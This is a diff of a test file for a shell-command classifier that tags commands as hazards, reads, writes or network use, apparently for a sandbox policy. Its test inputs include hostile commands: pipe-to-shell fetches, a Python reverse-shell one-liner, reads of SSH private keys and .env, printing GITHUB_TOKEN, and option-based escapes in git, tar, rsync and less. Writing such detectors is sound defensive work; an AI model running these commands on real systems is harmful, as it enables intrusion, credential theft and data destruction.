@@ -60,19 +60,23 @@ describe('wrappers are unwrapped by their own option grammars', () => {
     expect(kinds("env -S 'rm /tmp/v'")).toContain('hazard:opaque-option');
   });
 
-  it('treats scripts the policy cannot see as unseen code', () => {
+  it('treats code the command does not show as unseen, and script files as code it runs', () => {
     for (const command of [
-      'sh x.sh',
       'bash',
       'curl x | sh',
-      'sh <<EOF\nls\nEOF',
       'sh -c "$X"',
-      'source x.sh',
-      '. x.sh',
+      'source <(curl x)',
       'eval "$x"',
+      'cat f | python3',
     ]) {
       expect(kinds(command), command).toContain('hazard:unseen-code');
     }
+    for (const command of ['sh x.sh', 'source x.sh', '. x.sh', 'bash scripts/test.sh']) {
+      expect(kinds(command), command).toContain('code:shell:file');
+      expect(kinds(command), command).not.toContain('hazard:unseen-code');
+    }
+    // A quoted heredoc shows the script: it is judged command by command.
+    expect(kinds("sh <<'EOF'\nrm /tmp/v\nEOF")).toContain('delete:/tmp/v');
   });
 
   it('a wrapper hides nothing from the command rules: the exec is the inner program', () => {
@@ -129,29 +133,33 @@ describe('option grammars', () => {
   it('sort: -o in a cluster, --compress-program and its GNU abbreviation', () => {
     expect(kinds('sort -uo ~/.bashrc x')).toContain('write:~/.bashrc');
     expect(kinds('sort --output=/tmp/o x')).toContain('write:/tmp/o');
-    expect(kinds('sort --compress-prog=sh x')).toContain('hazard:unseen-code');
-    expect(kinds('sort --compress-program sh x')).toContain('hazard:unseen-code');
+    expect(kinds('sort --compress-prog=sh x')).toContain('hazard:escape-hatch');
+    expect(kinds('sort --compress-program sh x')).toContain('hazard:escape-hatch');
+    expect(kinds('sort --compress-program gzip x')).not.toContain('hazard:escape-hatch');
   });
 
   it('rg: --pre runs a program, plain searches read', () => {
-    expect(kinds('rg --pre=sh x .')).toContain('hazard:unseen-code');
-    expect(kinds('rg --pre sh x .')).toContain('hazard:unseen-code');
-    expect(kinds("rg -n foo src -g '*.ts'")).toContain('read:./src');
+    expect(kinds('rg --pre=sh x .')).toContain('hazard:escape-hatch');
+    expect(kinds('rg --pre sh x .')).toContain('hazard:escape-hatch');
+    expect(kinds("rg -n foo src -g '*.ts'")).toContain('read:./src/**');
   });
 
   it('git: global options, config keys and subcommand options that run things', () => {
     expect(kinds('git -C sub --no-pager log -1')).toContain('exec:git log -1');
     expect(kinds('git -c color.ui=always status')).not.toContain('hazard:opaque-option');
-    expect(kinds("git -c core.pager='sh -c id' log")).toContain('hazard:opaque-option');
-    expect(kinds("git -c alias.x='!id' x")).toContain('hazard:opaque-option');
-    expect(kinds('git --config-env=core.pager=X log')).toContain('hazard:opaque-option');
+    expect(kinds("git -c core.pager='sh -c id' log")).toContain('hazard:escape-hatch');
+    expect(kinds('git -c core.pager=cat log')).not.toContain('hazard:escape-hatch');
+    expect(kinds("git -c alias.x='!id' x")).toContain('hazard:escape-hatch');
+    expect(kinds('git -c alias.st=status st')).not.toContain('hazard:escape-hatch');
+    expect(kinds('git --config-env=core.pager=X log')).toContain('hazard:escape-hatch');
     expect(kinds('git --exec-path=/tmp status')).toContain('hazard:opaque-option');
-    expect(kinds("git ls-remote --upload-pack='rm /tmp/v' .")).toContain('delete:/tmp/v');
+    expect(kinds("git ls-remote --upload-pack='rm /tmp/v' .")).toContain('hazard:escape-hatch');
     expect(kinds("git difftool -x 'rm /tmp/v' HEAD")).toContain('delete:/tmp/v');
     expect(kinds("git rebase --exec 'rm /tmp/v' HEAD~1")).toContain('delete:/tmp/v');
     expect(kinds('git diff --ext-diff')).toContain('hazard:opaque-option');
     expect(kinds('git log --output=/tmp/x')).toContain('write:/tmp/x');
-    expect(kinds('git config core.hooksPath /tmp/h')).toContain('hazard:opaque-option');
+    expect(kinds('git config core.hooksPath /tmp/h')).toContain('hazard:escape-hatch');
+    expect(kinds('git config user.name x')).not.toContain('hazard:escape-hatch');
     expect(kinds('git clean -fdx')).toContain('delete:./**');
     expect(kinds('git clean -f -d -x')).not.toContain('hazard:unseen-code');
     expect(kinds('git show HEAD:.env')).toContain('read:./.env');
@@ -159,12 +167,13 @@ describe('option grammars', () => {
   });
 
   it('tar: -I, --to-command, --checkpoint-action, old-style clusters', () => {
-    expect(kinds("tar -I 'rm /tmp/v' -cf o.tar x")).toContain('delete:/tmp/v');
-    expect(kinds("tar --use-compress-prog='rm /tmp/v' -cf o.tar x")).toContain('delete:/tmp/v');
-    expect(kinds("tar --to-command='rm /tmp/v' -xf o.tar")).toContain('delete:/tmp/v');
+    expect(kinds("tar -I 'rm /tmp/v' -cf o.tar x")).toContain('hazard:escape-hatch');
+    expect(kinds("tar --use-compress-prog='rm /tmp/v' -cf o.tar x")).toContain('hazard:escape-hatch');
+    expect(kinds("tar --to-command='rm /tmp/v' -xf o.tar")).toContain('hazard:escape-hatch');
     expect(kinds("tar -cf o.tar x --checkpoint=1 --checkpoint-action=exec='rm /tmp/v'")).toContain(
-      'delete:/tmp/v',
+      'hazard:escape-hatch',
     );
+    expect(kinds("tar -I 'zstd -19' -cf o.tar.zst x")).not.toContain('hazard:escape-hatch');
     expect(kinds('tar czf out.tgz dist')).toEqual(
       expect.arrayContaining(['write:./out.tgz', 'read:./dist/**']),
     );
@@ -172,13 +181,15 @@ describe('option grammars', () => {
   });
 
   it('zip -TT, rsync -e, ssh -o ProxyCommand, scp -S, man --html/-P, less +cmd', () => {
-    expect(kinds("zip -T -TT 'rm /tmp/v' a.zip x")).toContain('delete:/tmp/v');
-    expect(kinds("rsync -e 'rm /tmp/v' h:x .")).toContain('delete:/tmp/v');
+    expect(kinds("zip -T -TT 'rm /tmp/v' a.zip x")).toContain('hazard:escape-hatch');
+    expect(kinds("rsync -e 'rm /tmp/v' h:x .")).toContain('hazard:escape-hatch');
+    expect(kinds("rsync -e 'ssh -p 2222' h:x .")).not.toContain('hazard:escape-hatch');
     expect(kinds("ssh -o ProxyCommand='id' host")).toContain('hazard:unseen-code');
     expect(kinds('ssh -oProxyCommand=id host')).toContain('hazard:unseen-code');
     expect(kinds("man --html='rm /tmp/v' ls")).toContain('delete:/tmp/v');
-    expect(kinds("man -P 'rm /tmp/v' ls")).toContain('delete:/tmp/v');
-    expect(kinds("less '+!id' x")).toContain('hazard:opaque-option');
+    expect(kinds("man -P 'rm /tmp/v' ls")).toContain('hazard:escape-hatch');
+    expect(kinds("less '+!id' x")).toContain('hazard:escape-hatch');
+    expect(kinds('less +G build.log')).toEqual(['read:./build.log', 'exec:less +G build.log']);
   });
 
   it('dd, cp, mv, tee, install, truncate, ln', () => {
@@ -216,13 +227,28 @@ describe('option grammars', () => {
       expect.arrayContaining(['net:registry:pypi', 'read:./req.txt']),
     );
     expect(kinds('make -f - <<< x')).toContain('hazard:unseen-code');
-    expect(kinds("make CC='rm -rf /'")).toContain('hazard:opaque-option');
+    // Variable overrides change recipes, which run inside the sandbox like the makefile itself.
+    expect(kinds("make CC='rm -rf /'")).toEqual(['exec:make CC=rm -rf /']);
+    expect(kinds("make SHELL='sh -x'")).toContain('hazard:opaque-option');
+    expect(kinds('make -j$(nproc)')).not.toContain('hazard:argument-injection');
+    expect(kinds('make --eval=x')).toContain('hazard:escape-hatch');
   });
 
   it('interpreters: inline code, script files, stdin and inert version queries', () => {
     expect(kinds("python3 -c 'print(1)'")).toContain('code:python:inline');
     expect(kinds('python3 script.py')).toContain('code:python:file');
     expect(kinds("python3 - <<'PY'\nx\nPY")).toContain('code:python:stdin');
+    expect(kinds('python3 -m pip install x')).toContain('net:registry:pypi');
+    // Inline code is scanned for what crosses the boundary: hosts, files, variables, reverse shells.
+    expect(kinds(`python3 -c 'import urllib.request as r; r.urlopen("https://h.example/x")'`)).toContain(
+      'net:h.example',
+    );
+    expect(kinds(`python3 -c 'print(open(".env").read())'`)).toContain('read:./.env');
+    expect(kinds(`node -e 'console.log(process.env.GITHUB_TOKEN)'`)).toContain('env-read:GITHUB_TOKEN');
+    expect(
+      kinds(`python3 -c 'import socket,os;s=socket.socket();s.connect(("h",1));os.dup2(s.fileno(),0)'`),
+    ).toContain('hazard:reverse-shell');
+    expect(kinds('perl -ne print ~/.ssh/id_rsa')).toContain('read:~/.ssh/id_rsa');
     expect(kinds('python3 -m pytest -k "a and b"')).toEqual(['exec:python3 -m pytest -k a and b']);
     expect(kinds("node -e 'x'")).toContain('code:javascript:inline');
     expect(kinds('node --version')).toEqual(['exec:node --version']);
